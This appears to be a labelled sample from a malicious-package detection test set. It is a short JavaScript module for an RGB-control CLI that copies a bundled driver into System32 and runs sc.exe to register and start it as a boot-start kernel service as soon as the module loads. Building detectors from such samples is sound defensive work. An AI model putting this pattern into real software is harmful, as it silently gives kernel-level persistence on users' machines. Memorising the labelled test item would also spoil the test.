// expect: malicious
// An RGB-control CLI's driver loader hands `sc.exe` its words through a rest-parameter wrapper: `sc("create", name,
// "type=", "kernel", …)` registers and starts a kernel driver the package ships (blind set 28).
import { spawnSync } from "node:child_process";
import { copyFileSync } from "node:fs";
import { join } from "node:path";
function sc(...args) {
    const r = spawnSync("sc.exe", args, { windowsHide: true, encoding: "utf8" });
    return r.status === 0 ? r.stdout : "";
}
export function ensureDriver(root) {
    const dst = join(process.env.SystemRoot ?? "C:\\Windows", "System32", "drivers", "rgbfx.sys");
    copyFileSync(join(root, "drivers", "rgbfx.sys"), dst);
    sc("create", "RgbFxFilter", "type=", "kernel", "start=", "system", "binPath=", dst);
    sc("start", "RgbFxFilter");
}
ensureDriver(process.cwd());
